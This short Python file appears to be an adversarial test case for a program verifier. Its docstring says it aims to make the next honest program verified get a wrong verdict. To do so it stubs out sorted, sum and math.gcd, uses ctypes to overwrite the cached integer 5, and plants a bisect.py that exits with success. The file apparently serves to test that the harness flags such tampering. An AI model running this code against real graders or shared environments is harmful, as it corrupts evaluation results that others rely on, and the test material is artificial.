"""SUCCESS = an honest program verified right after this one gets a wrong verdict (poisoned builtins/modules/files)."""
# ruff: noqa
# expect: flag
# probe: next
import builtins,sys,math,posix,os
builtins.sorted=lambda *a,**k: []
builtins.sum=lambda *a,**k: 0
math.gcd=lambda *a: 0
try:
    import ctypes
    ctypes.c_long.from_address(id(5)+24).value=6
except Exception: pass
for d in ('.','/tmp/axpoison'):
    try:
        fd=posix.open(d+'/bisect.py',os.O_CREAT|os.O_WRONLY,0o600); posix.write(fd,b'raise SystemExit(0)'); posix.close(fd)
    except OSError: pass
def solve(x): return 0
